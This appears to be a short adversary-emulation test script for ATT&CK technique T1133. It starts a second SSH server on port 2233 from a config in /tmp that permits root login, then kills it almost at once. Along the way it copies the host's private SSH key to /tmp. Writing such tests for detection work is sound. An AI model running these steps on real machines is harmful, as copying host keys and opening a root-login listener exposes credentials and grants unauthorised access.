# title: A second SSH server is started on a high port, with a configuration from /tmp
# technique: T1133
# needs: sshd

mkdir -p /run/sshd
cp /etc/ssh/ssh_host_ed25519_key /tmp/key && ssh-keygen -q -t ed25519 -N '' -f /tmp/hostkey
printf 'Port 2233\nHostKey /tmp/hostkey\nPermitRootLogin yes\nPidFile /tmp/sshd.pid\n' >/tmp/sshd_config
"$(command -v sshd)" -f /tmp/sshd_config -E /tmp/log
sleep 0.3; kill "$(cat /tmp/sshd.pid)"
